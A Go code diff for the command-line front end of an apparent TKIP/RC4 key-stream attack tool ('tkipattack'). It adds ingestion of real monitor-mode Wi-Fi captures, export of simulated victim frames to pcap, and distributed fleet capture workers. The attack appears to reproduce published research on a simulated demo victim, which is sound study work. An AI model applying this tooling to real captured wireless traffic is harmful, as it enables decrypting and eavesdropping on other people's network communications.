@@ -32,6 +32,16 @@
 // model the coordinator uses):
 //
 //	tkipattack -fleet-worker coordinator:7100 -model tkip.model -worker-id m1
+//
+// Trace mode ingests monitor-mode captures instead of simulating the air —
+// the §5.4 pipeline (radiotap/802.11 parsing, unique-length filtering, TSC
+// de-duplication) over pcap/pcapng files — and -write-pcap produces such
+// captures from the simulator (the round trip is pinned bitwise against
+// in-process capture):
+//
+//	tkipattack -write-pcap tkip.pcap -copies 9437184
+//	tkipattack -pcap tkip.pcap -copies 9437184 -model tkip.model
+//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -pcap 'shard-*.pcap'
 package main
 
 import (
@@ -53,6 +63,7 @@ import (
 	"rc4break/internal/rc4"
 	"rc4break/internal/snapshot"
 	"rc4break/internal/tkip"
+	"rc4break/internal/trace"
 )
 
 func main() {
@@ -74,11 +85,30 @@ func main() {
 	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate walk depth per decode round (0 = -maxdepth)")
 	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
 	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
+	pcapIn := flag.String("pcap", "", "ingest frame evidence from monitor-mode capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
+	writePcap := flag.String("write-pcap", "", "write the victim's frame stream (-copies frames) as a radiotap capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
 	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
 	flag.Parse()
 
 	msduLen := packet.HeaderSize + 7
 	positions := tkip.TrailerPositions(msduLen)
+
+	if *writePcap != "" {
+		// Writing the stream needs no trained model: frames are a pure
+		// function of the demo session and the TSC sequence.
+		if err := writeTKIPPcap(*writePcap, *copies); err != nil {
+			fatal(err)
+		}
+		return
+	}
+	var pcapPaths []string
+	if *pcapIn != "" {
+		var err error
+		pcapPaths, err = cliutil.ExpandGlobs(*pcapIn)
+		if err != nil {
+			fatal(fmt.Errorf("-pcap: %w", err))
+		}
+	}
 
 	model := loadOrTrainModel(*modelPath, positions[len(positions)-1], *keysPerTSC, *workers)
 
@@ -91,7 +121,7 @@ func main() {
 	attack.Workers = *workers
 
 	if *fleetWorker != "" {
-		runFleetWorker(*fleetWorker, *workerID, model, positions, session, victim, *workers)
+		runFleetWorker(*fleetWorker, *workerID, model, positions, session, victim, *workers, pcapPaths)
 		return
 	}
 
@@ -109,6 +139,9 @@ func main() {
 		if *collectOnly || *merge != "" {
 			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
 		}
+		if pcapPaths != nil {
+			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
+		}
 		depth := *maxPerRound
 		if depth <= 0 {
 			depth = *maxDepth
@@ -123,7 +156,11 @@ func main() {
 	if *copies > attack.Frames {
 		remaining = *copies - attack.Frames
 	}
-	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", remaining, *mode)
+	displayMode := *mode
+	if *pcapIn != "" {
+		displayMode = "trace"
+	}
+	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", remaining, displayMode)
 	start := time.Now()
 	streamID := snapshot.StreamInfo{Mode: *mode, Seed: *seed}
 	if *mode == "exact" {
@@ -132,9 +169,28 @@ func main() {
 		// two exact shards would observe identical frames and must not merge.
 		streamID.Seed = 0
 	}
+	if pcapPaths != nil {
+		// A trace-fed shard's stream identity is the file set: resuming it
+		// skips the frames the snapshot already holds, and merging two
+		// ingests of the same files is rejected as double-counting.
+		streamID = snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(pcapPaths)}
+	}
 	switch {
 	case remaining == 0:
 		fmt.Println("      shard target already reached by resumed capture")
+	case pcapPaths != nil:
+		if attack.Frames > 0 && attack.Stream != streamID {
+			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, -pcap names a different capture set",
+				attack.Stream.Mode, attack.Stream.Seed))
+		}
+		attack.Stream = streamID
+		stats, err := tkip.CollectTraceFiles(attack, victim.FrameLen(),
+			pcapPaths, attack.Frames, remaining, false)
+		if err != nil {
+			fatal(err)
+		}
+		fmt.Printf("      trace ingest: %d packets, %d TKIP frames (%d matched, %d dup, %d frag, %d other-length, %d skipped)\n",
+			stats.Packets, stats.Frames, stats.Matched, stats.Duplicates, stats.Fragmented, stats.OtherLength, stats.Skipped)
 	case *mode == "exact":
 		// An exact-mode shard can only be continued on its own TSC
 		// stream: the fast-forward in collectExact assumes the snapshot's
@@ -205,7 +261,7 @@ func main() {
 	recoverTime := time.Since(start)
 	result := cliutil.RunResult{
 		Attack:       "tkip",
-		Mode:         *mode,
+		Mode:         displayMode,
 		Success:      err == nil,
 		Rank:         depth,
 		Observations: attack.Frames,
@@ -452,7 +508,7 @@ func emitJSON(enabled bool, r cliutil.RunResult) {
 // lanes draw from the lane's derived seed; exact-mode lanes replay the
 // victim's TSC stream from the lane's absolute offset (an O(1) skip —
 // frames are independently keyed by TSC).
-func runFleetWorker(addr, id string, model *tkip.PerTSCModel, positions []int, session *tkip.Session, victim *netsim.WiFiVictim, workers int) {
+func runFleetWorker(addr, id string, model *tkip.PerTSCModel, positions []int, session *tkip.Session, victim *netsim.WiFiVictim, workers int, pcapPaths []string) {
 	fp, err := model.Fingerprint()
 	if err != nil {
 		fatal(err)
@@ -465,7 +521,7 @@ func runFleetWorker(addr, id string, model *tkip.PerTSCModel, positions []int, s
 		Fingerprint: fp,
 		Logf:        cliutil.IndentLogf,
 		Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
-			a, err := collectTKIPLane(model, positions, session, trailer, job, lease, workers)
+			a, err := collectTKIPLane(model, positions, session, trailer, job, lease, workers, pcapPaths)
 			if err != nil {
 				return nil, err
 			}
@@ -492,9 +548,12 @@ func runFleetWorker(addr, id string, model *tkip.PerTSCModel, positions []int, s
 
 // collectTKIPLane captures one leased lane into a fresh capture accumulator
 // stamped with the lane's stream identity.
-func collectTKIPLane(model *tkip.PerTSCModel, positions []int, session *tkip.Session, trailer []byte, job fleet.JobSpec, lease fleet.Lease, workers int) (*tkip.Attack, error) {
+func collectTKIPLane(model *tkip.PerTSCModel, positions []int, session *tkip.Session, trailer []byte, job fleet.JobSpec, lease fleet.Lease, workers int, pcapPaths []string) (*tkip.Attack, error) {
 	switch job.Mode {
 	case "model":
+		if pcapPaths != nil {
+			return nil, errors.New("-pcap serves exact-mode jobs: a trace is one concrete capture stream, not a statistical model")
+		}
 		return tkip.CollectLane(model, positions, trailer, lease.Stream,
 			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, workers)
 	case "exact":
@@ -504,6 +563,18 @@ func collectTKIPLane(model *tkip.PerTSCModel, positions []int, session *tkip.Ses
 		}
 		a.Workers = workers
 		a.Stream = lease.Stream
+		if pcapPaths != nil {
+			// Serve the lane from the trace shards: the files concatenate
+			// into one logical frame stream and the lane's range is carved
+			// out strictly — a shard set that cannot cover the lane fails
+			// loudly rather than uploading short evidence.
+			v := netsim.NewWiFiVictim(session, tkip.DemoPayload)
+			_, err := tkip.CollectTraceFiles(a, v.FrameLen(), pcapPaths, lease.Start, lease.Records, true)
+			if err != nil {
+				return nil, err
+			}
+			return a, nil
+		}
 		v := netsim.NewWiFiVictim(session, tkip.DemoPayload)
 		v.Skip(lease.Start) // frames are independently keyed by TSC: O(1)
 		sniffer := netsim.NewSniffer(v.FrameLen())
@@ -516,6 +587,38 @@ func collectTKIPLane(model *tkip.PerTSCModel, positions []int, session *tkip.Ses
 	default:
 		return nil, fmt.Errorf("unknown fleet mode %q", job.Mode)
 	}
+}
+
+// writeTKIPPcap writes n frames of the demo victim's stream as a
+// monitor-mode radiotap capture — the sim → pcap half of the round trip,
+// and the way trace shards for offline or fleet ingest are produced. The
+// extension picks the container: .pcapng writes pcapng, else classic pcap.
+func writeTKIPPcap(path string, n uint64) error {
+	session := tkip.DemoSession()
+	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
+	pw, done, err := trace.CreateFile(path, trace.LinkTypeRadiotap)
+	if err != nil {
+		return err
+	}
+	fw, err := netsim.NewFrameWriter(pw, trace.LinkTypeRadiotap, session)
+	if err != nil {
+		done()
+		return err
+	}
+	fmt.Printf("[1/1] writing %d frames of the victim's TKIP stream -> %s\n", n, path)
+	if err := victim.WriteTrace(fw, n); err != nil {
+		done()
+		return err
+	}
+	if err := done(); err != nil {
+		return err
+	}
+	info, err := os.Stat(path)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("      %d frames, %.1f MB\n", n, float64(info.Size())/(1<<20))
+	return nil
 }
 
 // trueTrailer decrypts one encapsulation with the real key to obtain the
